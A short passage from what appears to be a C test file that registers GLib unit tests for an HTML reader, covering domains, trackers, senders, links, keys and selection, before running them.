  add ("/html-reader/domain", test_domain);
  add ("/html-reader/trackers", test_trackers);
  add ("/html-reader/sender-in-menu", test_sender_in_menu);
  g_test_add_func ("/html-reader/senders", test_senders);
  add ("/html-reader/links", test_links);
  add ("/html-reader/keys", test_keys);
  add ("/html-reader/selection", test_selection);

  return g_test_run ();
}
